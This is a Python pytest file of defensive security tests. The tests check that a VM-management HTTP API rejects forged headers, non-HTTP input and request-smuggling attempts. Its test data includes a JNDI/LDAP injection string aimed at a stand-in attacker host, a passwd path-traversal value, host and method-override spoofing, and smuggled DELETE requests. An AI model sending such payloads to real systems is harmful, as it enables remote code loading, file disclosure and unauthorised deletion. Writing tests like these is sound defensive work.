"""Headers that are forged, and requests that are not HTTP."""

from __future__ import annotations

import re

import pytest

from tests.hostile.conftest import HANG
from tests.hostile.raw import head, port_of, speak
from tests.integration.cluster import Cluster
from tests.servers import within

FORGED = (
    {"X-Forwarded-For": "127.0.0.1, 10.0.0.1", "X-Real-IP": "127.0.0.1", "Forwarded": "for=127.0.0.1;host=a"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Forwarded-Prefix": "/evil"},
    {"Host": "evil.example"},
    {"Host": "evil.example:7370@127.0.0.1"},
    {"Host": ""},
    {"Host": "[::1"},
    {"X-Original-URL": "/api/v1/vm/web1", "X-Rewrite-URL": "/api/v1/vm/web1"},
    {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Method-Override": "DELETE"},
    {"Accept": "text/html;q=x, */*;q=9, ;;;,,,"},
    {"Accept": "application/problem+json" * 200},
    {"Accept-Encoding": "gzip, deflate, br, *;q=0" * 50},
    {"Accept-Language": "../../etc/passwd", "Accept-Charset": "utf-7"},
    {"Content-Type": "application/json; charset=utf-7"},
    {"Content-Type": "\u00ff/\u00fe"},
    {"Authorization": "Basic " + "A" * 6000},
    {"X-Api-Key": "\u00ff" * 100},
    {"Cookie": "PVC_SESSION=" + "A" * 6000},
    {"Cookie": ";".join(f"a{n}={n}" for n in range(900))},
    {"Cookie": "PVC_SESSION=; PVC_SESSION=\u00ff; =; ;;"},
    {"Range": "bytes=0-1,2-3,-1", "If-Range": "x"},
    {"Expect": "100-continue"},
    {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings", "HTTP2-Settings": "AAMAAABkAAQAAP__"},
    {"Origin": "https://evil.example", "Referer": "https://evil.example/", "Sec-Fetch-Site": "cross-site"},
    {"X-Pvc-Stale-Since": "2020-01-01", "Server": "evil", "Date": "never", "ETag": "x"},
    {"If-Modified-Since": "x", "If-Unmodified-Since": "x", "If-Match": "x"},
    {"If-None-Match": 'W/"x", "y", z,,,' * 100},
    {f"X-{n}": "a" for n in range(100)},
)
REFUSED = ("invalid-value", "cross-site", "host-not-allowed")


@pytest.mark.parametrize("forged", FORGED, ids=lambda headers: ",".join(headers)[:40])
def test_a_forged_header_changes_nothing(victim: Cluster, forged: dict[str, str]) -> None:
    plain = victim.send("GET", "/vm")
    names = {name: value.encode() if not value.isascii() else value for name, value in forged.items()}
    with within(HANG):
        reply = victim.send("GET", "/vm", headers=names)  # type: ignore[arg-type]
    if reply.kind == "application/json":
        assert (reply.status, reply.body) == (200, plain.body) or reply.code in REFUSED
    elif reply.headers.get("Content-Encoding") != "gzip":
        assert reply.status == 400, "which says that it is not HTTP"
    assert "evil" not in str(reply.headers)


def test_the_request_id_is_chosen_by_the_server(victim: Cluster) -> None:
    seen = set()
    for identity in ("mine", "0" * 32, "a" * 5000, "${jndi:ldap://evil.example/a}"):
        for path in ("", "/nowhere", "/vm/nobody"):
            reply = victim.send("GET", path, headers={"X-Request-Id": identity})
            assert re.fullmatch("[0-9a-f]{32}", reply.headers["X-Request-Id"])
            assert reply.headers.get_all("X-Request-Id") != [identity]
            seen.add(reply.headers["X-Request-Id"])
    assert len(seen) == 12


def test_no_header_or_field_overrides_the_method(victim: Cluster) -> None:
    for header in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        assert victim.send("POST", "/vm/web1", headers={header: "DELETE"}).code == "invalid-value"
    assert victim.send("POST", "/vm/web1", form={"_method": "DELETE"}).code == "invalid-value"


NO_HTTP = {
    "HTTP/0.9": b"GET /api/v1/vm\r\n\r\n",
    "HTTP/0.9, as it says": b"GET /api/v1/vm HTTP/0.9\r\n\r\n",
    "HTTP/2 without its preface": b"GET /api/v1/vm HTTP/2.0\r\nHost: 127.0.0.1\r\n\r\n",
    "no method": b"GARBAGE\r\n\r\n",
    "a long method": b"A" * 5000 + b" / HTTP/1.1\r\n\r\n",
    "an unknown method": head("BREW", "/api/v1/vm"),
    "an unknown version": b"GET /api/v1/vm HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": bytes.fromhex("16030102000100") + b"\0" * 200,
    "no host": b"GET /api/v1/vm HTTP/1.1\r\n\r\n",
    "two hosts": head("GET", "/api/v1/vm", "Host: b"),
    "a long header": head("GET", "/api/v1/vm", "X-A: " + "a" * 9000),
    "a very long header": head("GET", "/api/v1/vm", "X-A: " + "a" * 5_000_000),
    "a long name": head("GET", "/api/v1/vm", "a" * 9000 + ": a"),
    "many headers": head("GET", "/api/v1/vm", *(f"X-{n}: a" for n in range(10_000))),
    "NUL in a header": head("GET", "/api/v1/vm", "X-A: a\0b"),
    "NUL in the path": head("GET", "/api/v1/vm/\0"),
    "a folded header": head("GET", "/api/v1/vm", "X-A: a\r\n b"),
    "a blank before the colon": head("GET", "/api/v1/vm", "X-A : a"),
    "mere line feeds": b"GET /api/v1/vm HTTP/1.1\nHost: 127.0.0.1\n\n",
    "a blank in the path": head("GET", "/api/v1/vm /x"),
    "an endless path": b"GET /" + b"a" * 5_000_000,
}
SMUGGLED = {
    "both lengths": head("POST", "/api/v1/vm/web1", "Content-Length: 4", "Transfer-Encoding: chunked", close=False),
    "two lengths": head("POST", "/api/v1/vm/web1", "Content-Length: 4", "Content-Length: 40", close=False),
    "lengths in a list": head("POST", "/api/v1/vm/web1", "Content-Length: 4, 40", close=False),
    "a negative length": head("POST", "/api/v1/vm/web1", "Content-Length: -4", close=False),
    "a signed length": head("POST", "/api/v1/vm/web1", "Content-Length: +4", close=False),
    "a hexadecimal length": head("POST", "/api/v1/vm/web1", "Content-Length: 0x4", close=False),
    "a huge length": head("POST", "/api/v1/vm/web1", f"Content-Length: {'9' * 30}", close=False),
    "an odd coding": head("POST", "/api/v1/vm/web1", "Transfer-Encoding: xchunked", close=False),
    "chunked not last": head("POST", "/api/v1/vm/web1", "Transfer-Encoding: chunked, identity", close=False),
    "chunked twice": head("POST", "/api/v1/vm/web1", "Transfer-Encoding: chunked, chunked", close=False),
    "chunks of HTTP/1.0": b"POST /api/v1/vm/web1 HTTP/1.0\r\nHost: 127.0.0.1\r\nConnection: keep-alive\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n",
}
DELETION = b"0\r\n\r\n" + head("DELETE", "/api/v1/vm/web1")


@pytest.mark.parametrize("what", NO_HTTP)
def test_input_that_is_not_http_is_refused_at_once(victim: Cluster, what: str) -> None:
    with within(HANG):
        answer = speak(port_of(victim.api), NO_HTTP[what])
    assert answer.status in (0, 400, 404, 405), answer
    assert len(answer.body) < 6000


@pytest.mark.parametrize("what", SMUGGLED)
def test_no_request_is_smuggled_inside_another(victim: Cluster, what: str) -> None:
    with within(HANG):
        answer = speak(port_of(victim.api), SMUGGLED[what] + DELETION)
    assert answer.status in (400, 413, 510), answer
    assert b"is removed" not in answer.body
    assert [vm["name"] for vm in victim.get("/vm")] == ["web1"]


def test_an_invalid_chunk_ends_the_request(victim: Cluster) -> None:
    extended = b"4;" + b"a" * 5_000_000 + b"\r\nabcd\r\n0\r\n\r\n"
    for chunk in (b"zz\r\nabc", b"-4\r\nabcd", b"f" * 40 + b"\r\na", b"4\r\nabcdefgh\r\n0\r\n\r\n", extended):
        request = head("POST", "/api/v1/vm/web1", "Transfer-Encoding: chunked")
        with within(HANG):
            assert speak(port_of(victim.api), request + chunk).status in (400, 413, 510)


def test_xml_may_be_sent_in_the_query(victim: Cluster) -> None:
    """Up to some 20 kilobytes, for clients that send no body."""
    xml = victim.vm("web1")["xml"].replace("<vcpu>", f"<description>{'a' * 20_000}</description><vcpu>")
    assert victim.send("PUT", "/vm/web1", query={"xml": xml.replace("web1<", "web2<")}).code == "invalid-value"
